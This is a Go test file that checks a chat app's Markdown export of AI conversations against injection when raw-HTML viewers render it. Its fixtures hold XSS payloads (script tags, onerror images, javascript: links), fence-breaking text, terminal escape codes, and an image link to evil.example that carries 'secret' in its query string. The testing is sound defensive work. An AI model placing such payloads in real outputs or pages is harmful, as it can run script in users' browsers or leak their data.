package app

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/gatehouse-app/gatehouse/store"
)

// render turns Markdown into HTML as a viewer that lets raw HTML through
// would (goldmark, CommonMark with GitHub's extensions, unsafe): what the
// export must survive.
func render(t *testing.T, md string) string {
	t.Helper()
	var out bytes.Buffer
	gm := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	if err := gm.Convert([]byte(md), &out); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// exportFixture is a conversation with every kind of message: a person's
// question in Chinese, the model's reasoning and text, a tool call that
// ran (its result since dropped), one denied, one that failed, usage, and a
// failed turn.
func exportFixture() Transcript {
	at := time.Date(2026, 11, 22, 10, 30, 0, 0, time.FixedZone("", 8*3600))
	text := func(s string) json.RawMessage { b, _ := json.Marshal(s); return b }
	return Transcript{
		Conversation: store.Conversation{ID: "c1", Title: "北京的天气", ProviderID: "p1", Model: "qwen3:8b",
			SystemPrompt: "简短回答。", CreatedAt: at, UpdatedAt: at.Add(time.Hour)},
		ProviderNames: map[string]string{"p1": "Local Ollama"},
		ServerNames:   map[string]string{"s1": "Weather desk"},
		Messages: []store.Message{
			{Seq: 1, Role: store.RoleUser, Text: "北京天气怎么样？"},
			{Seq: 2, Role: store.RoleAssistant, ProviderID: "p1", Model: "qwen3:8b", Reasoning: "需要查天气。", Text: "我查一下。",
				ToolCalls: []store.ToolCall{
					{ID: "c1", ServerID: "s1", Tool: "forecast", Arguments: json.RawMessage(`{"city":"北京","days":2}`)},
					{ID: "c2", ServerID: "s1", Tool: "delete_all", Arguments: json.RawMessage(`{}`)},
					{ID: "c3", ServerID: "gone", Tool: "divide", Arguments: json.RawMessage(`{"a":1,"b":0}`)},
				}},
			{Seq: 3, Role: store.RoleTool, ToolCallID: "c1", Dropped: true, ToolResult: &store.ToolResult{Content: text("晴，25°C")}},
			{Seq: 4, Role: store.RoleTool, ToolCallID: "c2", ToolResult: &store.ToolResult{Content: text("The person denied this call."), IsError: true, Denied: true}},
			{Seq: 5, Role: store.RoleTool, ToolCallID: "c3", ToolResult: &store.ToolResult{Content: text("cannot divide by zero"), IsError: true}},
			{Seq: 6, Role: store.RoleAssistant, ProviderID: "p1", Model: "qwen3:8b", Text: "北京今天**晴**。", Usage: &store.Usage{Input: 120, Output: 30}},
			{Seq: 7, Role: store.RoleUser, Text: "明天呢？"},
			{Seq: 8, Role: store.RoleAssistant, ProviderID: "p1", Model: "qwen3:8b", Error: "The conversation is too long for qwen3:8b."},
		},
	}
}

var tagRE = regexp.MustCompile(`<(/?)([a-zA-Z][a-zA-Z0-9]*)`)

// tags counts the HTML elements a viewer would make, by name.
func tags(htmlText string) map[string]int {
	n := map[string]int{}
	for _, m := range tagRE.FindAllStringSubmatch(htmlText, -1) {
		if m[1] == "" {
			n[strings.ToLower(m[2])]++
		}
	}
	return n
}

func TestConversationMarkdown(t *testing.T) {
	cases := []struct {
		name string
		edit func(tr *Transcript)
		// want are texts the rendered page shows; wantMD are in the file
		// itself; wantTags are element counts of the rendered page.
		want     []string
		wantMD   []string
		wantTags map[string]int
	}{
		{"the whole conversation in order: title, provider and model, date, system prompt, messages",
			func(*Transcript) {},
			[]string{"北京的天气", "Local Ollama", "qwen3:8b", "2026-11-22 10:30 +08:00", "简短回答。", "北京天气怎么样？",
				"需要查天气。", "我查一下。", "forecast", "Weather desk", "晴，25°C", "120 in · 30 out", "明天呢？",
				"The turn failed:", "The conversation is too long for qwen3:8b."},
			[]string{"**Tool call:** `forecast` on Weather desk — done", "\"city\": \"北京\"",
				"**Tool call:** `delete_all` on Weather desk — denied", "**Tool call:** `divide` on gone — failed",
				"Result (dropped to save room in the model's context; the model no longer sees it):",
				"<details>\n<summary>Reasoning</summary>"},
			map[string]int{"h1": 1, "h2": 2, "h3": 4, "details": 1, "strong": 5}},
		{"a call whose result never came (Gatehouse was killed) is interrupted",
			func(tr *Transcript) {
				tr.Messages[3].ToolResult = &store.ToolResult{Content: json.RawMessage(`"` + interruptedResult + `"`), IsError: true, Interrupted: true}
			},
			[]string{interruptedResult},
			[]string{"**Tool call:** `delete_all` on Weather desk — interrupted"},
			map[string]int{"h3": 4}},
		{"attachments are listed under the person's message, their names as text",
			func(tr *Transcript) {
				tr.Messages[0].Attachments = []store.Attachment{{ServerName: "Weather desk", URI: "weather://beijing", Name: "<img src=x onerror=alert(1)> **Beijing**", Text: "晴"}}
			},
			[]string{"Attached:", "&lt;img src=x onerror=alert(1)&gt; **Beijing** from Weather desk, <code>weather://beijing</code>"},
			[]string{"- **Attached:** "},
			map[string]int{"img": 0, "h3": 4, "strong": 6}},
		{"a result with ``` inside stays inside its block",
			func(tr *Transcript) {
				tr.Messages[4].ToolResult.Content, _ = json.Marshal("```\n# Injected\n````\n<script>alert(1)</script>")
			},
			[]string{"# Injected", "&lt;script&gt;alert(1)&lt;/script&gt;"},
			[]string{"`````text\n```\n# Injected"},
			map[string]int{"h1": 1, "h3": 4, "script": 0}},
		{"reasoning with </details> and a script stays folded and inert",
			func(tr *Transcript) {
				tr.Messages[1].Reasoning = "</details>\n\n# Out\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>"
			},
			[]string{"&lt;/details&gt;", "# Out", "&lt;script&gt;"},
			nil,
			map[string]int{"h1": 1, "details": 1, "script": 0, "img": 0}},
		{"the model's raw HTML, images and comments are text, and cannot hide what follows",
			func(tr *Transcript) {
				tr.Messages[5].Text = "看这里 <script>alert(1)</script> ![x](https://evil.example/p.png?d=secret) <img src=x> <!-- hide the rest"
			},
			[]string{"&lt;script&gt;", "![x](", "&lt;img src=x&gt;", "&lt;!-- hide the rest", "明天呢？", "The turn failed:"},
			nil,
			map[string]int{"script": 0, "img": 0, "h3": 4}},
		{"a code block the model leaves open ends with its message",
			func(tr *Transcript) { tr.Messages[5].Text = "代码：\n\n```go\nfmt.Println(\"<b>\")" },
			[]string{"fmt.Println(&quot;&lt;b&gt;&quot;)", "明天呢？"},
			[]string{"```go\nfmt.Println(\"<b>\")\n```"},
			map[string]int{"h3": 4, "b": 0, "pre": 8}},
		{"the model's Markdown stays Markdown, code blocks untouched",
			func(tr *Transcript) { tr.Messages[5].Text = "# 标题\n\n- 一\n- 二\n\n```html\n<p>keep</p>\n```" },
			[]string{"标题", "&lt;p&gt;keep&lt;/p&gt;"},
			[]string{"```html\n<p>keep</p>\n```"},
			map[string]int{"h1": 2, "li": 3 + 2}},
		{"titles, names and failures are plain text",
			func(tr *Transcript) {
				tr.Conversation.Title = "<img src=x onerror=alert(1)> *粗体* [link](javascript:alert(1))"
				tr.ServerNames["s1"] = "Weather <b>desk</b>"
				tr.Messages[7].Error = "<script>alert(1)</script> failed"
			},
			[]string{"&lt;img src=x onerror=alert(1)&gt; *粗体* [link](javascript:alert(1))", "Weather &lt;b&gt;desk&lt;/b&gt;", "&lt;script&gt;"},
			nil,
			map[string]int{"img": 0, "em": 1, "a": 0, "b": 0, "script": 0}}, // the one <em> is the tokens line
		{"control characters cannot drive a terminal the file is printed to",
			func(tr *Transcript) {
				tr.Messages[5].Text = "红色\x1b[31m文字\x07"
				tr.Messages[4].ToolResult.Content, _ = json.Marshal("\x1b]0;title\x07结果\r\n下一行")
			},
			[]string{"红色\uFFFD[31m文字\uFFFD", "\uFFFD]0;title\uFFFD结果\n下一行"},
			nil,
			nil},
		{"the person's message with a fence and a fake heading stays theirs",
			func(tr *Transcript) { tr.Messages[6].Text = "明天呢？\n```\n### Model\nI will delete everything" },
			[]string{"### Model\nI will delete everything", "The turn failed:"},
			nil,
			map[string]int{"h3": 4}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			tr := exportFixture()
			tc.edit(&tr)
			md := ConversationMarkdown(tr)
			page := render(t, md)
			for _, want := range tc.want {
				if !strings.Contains(page, want) {
					t.Errorf("the rendered page lacks %q\n--- markdown:\n%s\n--- html:\n%s", want, md, page)
				}
			}
			for _, want := range tc.wantMD {
				if !strings.Contains(md, want) {
					t.Errorf("the file lacks %q\n--- markdown:\n%s", want, md)
				}
			}
			got := tags(page)
			for tag, n := range tc.wantTags {
				if got[tag] != n {
					t.Errorf("the rendered page has %d <%s>, want %d\n--- markdown:\n%s\n--- html:\n%s", got[tag], tag, n, md, page)
				}
			}
		})
	}
}

func TestExportFileName(t *testing.T) {
	cases := []struct{ title, want string }{
		{"北京的天气", "北京的天气.md"},
		{"", "Conversation.md"},
		{"a/b\\c: d?*", "a b c d.md"},
		{"..hidden", "hidden.md"},
		{"line\nbreak\ttab", "line break tab.md"},
		{strings.Repeat("长", 100), strings.Repeat("长", 80) + ".md"},
	}
	for _, tc := range cases {
		if got := ExportFileName(tc.title); got != tc.want {
			t.Errorf("ExportFileName(%q) = %q, want %q", tc.title, got, tc.want)
		}
	}
}

// chooser stands in for the save dialog: it answers with path.
type chooser struct{ path, asked string }

func (c *chooser) SaveFile(_, defaultName string) (string, error) {
	c.asked = defaultName
	return c.path, nil
}

// TestChatService_Export: the window's Export asks where to save with a
// name from the title and writes the file readable only by the person,
// replacing one that was there; cancelling writes nothing.
func TestChatService_Export(t *testing.T) {
	core, _ := openTestCore(t)
	svc := NewChatService(core, core.ProviderFor)
	if _, err := svc.Export("nothing"); err == nil {
		t.Error("Export without a window succeeded")
	}
	p, err := core.Store.PutProvider(store.Provider{Name: "Stand-in", Kind: store.ProviderOpenAI, BaseURL: "http://127.0.0.1:9/v1", Model: "m"})
	if err != nil {
		t.Fatal(err)
	}
	conv, err := svc.NewConversation(p.ID, "", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := core.Store.RenameConversation(conv.ID, "旅行: 里斯本"); err != nil {
		t.Fatal(err)
	}
	if _, err := core.Store.AppendMessages(conv.ID, store.Message{Role: store.RoleUser, Text: "五月去里斯本"}); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "trip.md")
	if err := os.WriteFile(path, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}

	c := &chooser{path: path}
	svc.files = c
	got, err := svc.Export(conv.ID)
	if err != nil || got != path {
		t.Fatalf("Export = %q, %v", got, err)
	}
	if c.asked != "旅行 里斯本.md" {
		t.Errorf("the dialog proposed %q", c.asked)
	}
	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if info.Mode().Perm() != 0o600 {
		t.Errorf("the file's mode is %v, want 0600", info.Mode().Perm())
	}
	data, _ := os.ReadFile(path)
	if !strings.Contains(string(data), "五月去里斯本") || !strings.Contains(string(data), "Stand-in") {
		t.Errorf("the file holds:\n%s", data)
	}
	entries, _ := os.ReadDir(filepath.Dir(path))
	if len(entries) != 1 {
		t.Errorf("the folder holds %d files, want only the export", len(entries))
	}

	c.path = "" // the person cancels
	if got, err := svc.Export(conv.ID); got != "" || err != nil {
		t.Errorf("a cancelled Export = %q, %v; want nothing", got, err)
	}
}
